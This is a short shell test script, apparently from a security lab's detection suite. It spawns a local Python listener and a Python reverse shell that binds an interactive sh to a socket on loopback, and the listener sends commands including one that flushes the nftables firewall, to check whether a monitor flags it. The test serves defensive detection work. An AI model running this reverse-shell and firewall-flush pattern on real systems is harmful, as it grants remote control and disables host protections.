#!/bin/sh
# A shell whose standard input is a socket: the order comes over the network.
# row: evasion 22
# firewall: host.nft
# expect: WW002 by nft
. "$LAB/lib.sh"
ip link set lo up
/usr/bin/python3 -c '
import socket
door = socket.create_server(("127.0.0.1", 4444))
guest = door.accept()[0]
guest.sendall(b"id\nnft flush ruleset\nexit\n")
while guest.recv(4096): pass' &
listener=$!
wait_for grep -q :115C /proc/net/tcp
/usr/bin/python3 -c '
import os, socket
s = socket.create_connection(("127.0.0.1", 4444))
for n in range(3): os.dup2(s.fileno(), n)
os.execv("/bin/sh", ["sh", "-i"])' || true
wait "$listener"
